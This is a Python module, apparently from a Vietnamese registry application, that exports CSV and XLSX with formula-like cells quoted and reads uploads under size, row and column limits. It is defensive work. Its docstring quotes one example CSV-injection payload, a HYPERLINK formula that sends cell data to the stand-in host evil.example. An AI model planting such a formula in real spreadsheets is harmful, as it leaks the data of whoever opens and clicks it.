"""CSV and XLSX files: exports whose cells are data, never formulas, and imports read
within limits.

A spreadsheet program runs a cell that begins with `=`, `+`, `-` or `@` (and, after a
tab or carriage return, what follows) as a formula, so a product named
`=HYPERLINK("http://evil.example/?"&A1,"Xoài")` in an export would send the officer's
data away when clicked. Text cells that begin so get a leading single quote (OWASP,
"CSV Injection"); numbers stay numbers. XLSX text cells are written as strings
(openpyxl data type "s"), so nothing in them is ever read as a formula either.

An upload is read as a stream of rows under limits checked as early as they can be: the
unpacked size of an XLSX archive (a 190 KB file can unpack to gigabytes) and the sheet's
declared dimension before a row is parsed, then the row count as rows arrive.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
import zipfile
import zlib
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from typing import IO, TYPE_CHECKING, Any, Final

from registry.errors import InvalidInput

if TYPE_CHECKING:
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
XLSX_TYPE: Final = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_TYPE: Final = "text/csv; charset=utf-8"
# Excel's own limits on sheet titles: at most 31 characters, none of []:*?/\ .
_TITLE_LENGTH: Final = 31
_TITLE_FORBIDDEN: Final = str.maketrans({c: "_" for c in "[]:*?/\\"})


def data_cell(value: Any) -> Any:
    """The value as a cell that is data: text beginning like a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(
    header: Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    lineterminator: str = "\r\n",
    delimiter: str = ",",
) -> str:
    """CSV of the header and rows, every cell passed through `data_cell` (None → empty)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=lineterminator, delimiter=delimiter)
    writer.writerow([data_cell(v) for v in header])
    for row in rows:
        writer.writerow(["" if v is None else data_cell(v) for v in row])
    return out.getvalue()


@dataclass
class Sheet:
    title: str
    header: Sequence[str]
    rows: Iterable[Sequence[Any]]
    widths: Sequence[float] = field(default_factory=tuple)
    """Column widths in characters, left to right; columns beyond keep Excel's default."""


def _cell(sheet: WriteOnlyWorksheet, value: Any, *, bold: bool = False) -> WriteOnlyCell:
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    cell = WriteOnlyCell(sheet, value=data_cell(value))
    if isinstance(cell.value, str):
        cell.data_type = "s"
    if bold:
        cell.font = Font(bold=True)
    return cell


def xlsx_bytes(*sheets: Sheet) -> bytes:
    """A workbook with one worksheet per sheet, header row in bold; cells as `data_cell`."""
    # openpyxl is imported by the few requests that write or read a workbook, not by every
    # process that imports the app (~0.1 s of each start).
    from openpyxl import Workbook
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    for spec in sheets:
        sheet = workbook.create_sheet(spec.title.translate(_TITLE_FORBIDDEN)[:_TITLE_LENGTH])
        for index, width in enumerate(spec.widths, start=1):
            sheet.column_dimensions[get_column_letter(index)].width = width
        sheet.append([_cell(sheet, v, bold=True) for v in spec.header])
        for row in spec.rows:
            sheet.append([_cell(sheet, v) for v in row])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


XLSX_MAGIC: Final = b"PK\x03\x04"


@dataclass(frozen=True)
class TableLimits:
    """How much of an uploaded table is read: data rows (the header row aside), the unpacked
    bytes of an XLSX archive, and columns."""

    max_rows: int
    max_unpacked_bytes: int
    max_columns: int = 64


def read_table(data: bytes, *, limits: TableLimits) -> Iterator[list[str]]:
    """The header row, then each data row, as stripped text, from a CSV (UTF-8 or an ANSI
    code page, comma or semicolon) or XLSX (first sheet) upload, judged by its content.

    Refuses with InvalidInput on field "file", before any row when the archive or the sheet
    says it is too large, and otherwise at the first row past the limit: callers consume the
    rows before they write anything."""
    rows = _xlsx_rows(data, limits) if data.startswith(XLSX_MAGIC) else _csv_rows(data)
    for number, row in enumerate(rows):
        if number > limits.max_rows:
            raise _too_many_rows(limits.max_rows)
        yield row


def _file_problem(message_vi: str, message_en: str) -> InvalidInput:
    return InvalidInput(message_vi, message_en, field="file")


def _too_many_rows(max_rows: int) -> InvalidInput:
    shown = f"{max_rows:,}"
    return _file_problem(
        f"Mỗi lần nhập tối đa {shown.replace(',', '.')} dòng (không kể dòng tiêu đề).",
        f"At most {shown} rows per import (the header row aside).",
    )


def _unreadable_xlsx() -> InvalidInput:
    return _file_problem(
        "Không đọc được tệp Excel (.xlsx).", "The Excel (.xlsx) file cannot be read."
    )


def _text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value).strip()


def _trimmed(values: tuple[Any, ...]) -> list[str]:
    if values.count(None) == len(values):  # the blank rows readers fill gaps with: C speed
        return []
    row = [_text(v) for v in values]
    while row and not row[-1]:
        row.pop()
    return row


# Excel on Windows saves "CSV (Comma delimited)" in the system's ANSI code page:
# Windows-1258 on Vietnamese Windows (tones as combining marks), Windows-1252 on Western
# ones. Letters the code page lacks become "?", so "Xoài" may arrive as "Xo?i".
ANSI_CODE_PAGES: Final = ("cp1258", "cp1252")
SAVE_AS_UTF8_VI: Final = (
    "Cách lưu đúng: trong Excel chọn Tệp → Lưu thành (File → Save As), ở ô “Lưu dưới dạng” "
    "chọn “CSV UTF-8 (Comma delimited) (*.csv)”, lưu rồi nhập lại tệp đó; hoặc tải lên "
    "thẳng tệp Excel .xlsx."
)
SAVE_AS_UTF8_EN: Final = (
    "How to save it: in Excel choose File → Save As, pick “CSV UTF-8 (Comma delimited) "
    "(*.csv)” as the type, save and import that file; or upload the .xlsx workbook itself."
)
# What a real ANSI text file holds beyond ASCII: letters (precomposed once normalised) and
# the typographic punctuation Excel and Word put in. A mark that composes with nothing, or
# a symbol soup, means the guess of code page was wrong (TCVN3, VNI, …).
_NOT_ANSI_TEXT = re.compile(r"[^\x00-\x7f\w\u00a0“”‘’–—…€°·×«»•©®™±]")
_LOST_LETTER = re.compile(r"\w\?\w")
_QUOTED = re.compile(r'"[^"]*"')


def decode_csv(data: bytes) -> str:
    """The text of a CSV upload: UTF-8 (with or without BOM), else the ANSI code page it
    reads as, Vietnamese first; refused with how to save as UTF-8 when neither fits or
    when letters were already lost as "?" by the program that saved it."""
    try:
        return unicodedata.normalize("NFC", data.decode("utf-8-sig"))
    except UnicodeDecodeError:
        pass
    for code_page in ANSI_CODE_PAGES:
        try:
            text = unicodedata.normalize("NFC", data.decode(code_page))
        except UnicodeDecodeError:
            continue
        if _NOT_ANSI_TEXT.search(text):
            continue
        if _LOST_LETTER.search(text):
            raise _file_problem(
                "Tệp CSV đã mất chữ có dấu (thành dấu ?) khi lưu theo bảng mã ANSI. "
                + SAVE_AS_UTF8_VI,
                "The CSV file lost its accented letters (saved as ?) in an ANSI code page. "
                + SAVE_AS_UTF8_EN,
            )
        return text
    raise _file_problem(
        "Không nhận ra bảng mã của tệp CSV (cần UTF-8). " + SAVE_AS_UTF8_VI,
        "The CSV file's encoding is not recognised (UTF-8 is needed). " + SAVE_AS_UTF8_EN,
    )


def _csv_delimiter(first_line: str) -> str:
    """Semicolon when the header has more of them than commas (Excel where the decimal
    mark is a comma, as in Vietnam), else comma; quoted names do not count."""
    bare = _QUOTED.sub("", first_line)
    return ";" if bare.count(";") > bare.count(",") else ","


def _csv_rows(data: bytes) -> Iterator[list[str]]:
    text = decode_csv(data)
    first_line, _, rest = text.partition("\n")
    # Excel reads (and some tools write) a first line "sep=;" naming the delimiter.
    if first_line.strip().lower().startswith("sep=") and len(first_line.strip()) == 5:
        delimiter = first_line.strip()[4]
        text = rest
    else:
        delimiter = _csv_delimiter(first_line)
    try:
        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
            yield [cell.strip() for cell in row]
    except csv.Error as error:
        raise _file_problem(
            f"Tệp CSV bị lỗi: {error}.", f"The CSV file is malformed: {error}."
        ) from error


def _xlsx_rows(data: bytes, limits: TableLimits) -> Iterator[list[str]]:
    from openpyxl import load_workbook

    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            _check_archive(archive, limits)
    except (zipfile.BadZipFile, OSError, ValueError, zlib.error) as error:
        raise _unreadable_xlsx() from error
    try:
        workbook = load_workbook(io.BytesIO(data), read_only=True, data_only=True)
        sheet = workbook.worksheets[0]
    except Exception as error:  # openpyxl raises many kinds for a broken file
        raise _unreadable_xlsx() from error
    try:
        declared_rows, declared_columns = sheet.max_row, sheet.max_column
        if declared_rows is not None and declared_rows > limits.max_rows + 1:
            raise _too_many_rows(limits.max_rows)
        if declared_columns is not None and declared_columns > limits.max_columns:
            raise _file_problem(
                f"Trang tính có {declared_columns} cột; tối đa {limits.max_columns} cột.",
                f"The sheet has {declared_columns} columns; at most {limits.max_columns}.",
            )
        # A declared dimension may also understate the sheet: read every row there is.
        sheet.reset_dimensions()
        yield from _sheet_rows(sheet, limits.max_columns)
    finally:
        workbook.close()


def _check_archive(archive: zipfile.ZipFile, limits: TableLimits) -> None:
    """Refuse an archive too large to open, before openpyxl opens it.

    openpyxl parses the shared strings, and every sheet that does not declare its
    dimension, whole while opening the file; so the unpacked size is capped (zipfile never
    inflates a member past its declared size), and the row elements of every part are
    counted in the raw XML, stopping at the first one past the limit."""
    unpacked = sum(member.file_size for member in archive.infolist())
    if unpacked > limits.max_unpacked_bytes:
        mb = limits.max_unpacked_bytes // 1_000_000
        raise _file_problem(
            f"Tệp Excel giải nén ra {unpacked:,} byte, vượt giới hạn {mb} MB.".replace(",", "."),
            f"The Excel file unpacks to {unpacked:,} bytes, more than the {mb} MB limit.",
        )
    # Every XML part, not only xl/worksheets/: the workbook's relations may put a sheet anywhere.
    for member in archive.infolist():
        if member.filename.lower().endswith(".xml"):
            with archive.open(member) as sheet:
                if _more_rows_than(sheet, limits.max_rows + 1):
                    raise _too_many_rows(limits.max_rows)


_ROW_START = re.compile(rb"<(?:[A-Za-z_][\w.-]*:)?row[\s>/]")
_CHUNK = 1 << 20


def _more_rows_than(xml: IO[bytes], limit: int) -> bool:
    rows, carry = 0, b""
    while chunk := xml.read(_CHUNK):
        buffer = carry + chunk
        last_end = 0
        for match in _ROW_START.finditer(buffer):
            rows += 1
            last_end = match.end()
        if rows > limit:
            return True
        # Keep a tail that may hold the start of a tag cut by the chunk, never a counted one.
        carry = buffer[max(last_end, len(buffer) - 16) :]
    return False


def _sheet_rows(sheet: Any, max_columns: int) -> Iterator[list[str]]:
    # No max_col: openpyxl would pad every row out to it; cells past it are dropped here.
    rows = sheet.iter_rows(values_only=True)
    while True:
        try:
            values = next(rows, None)
        except Exception as error:  # broken XML inside an archive that opened
            raise _unreadable_xlsx() from error
        if values is None:
            return
        yield _trimmed(values[:max_columns])
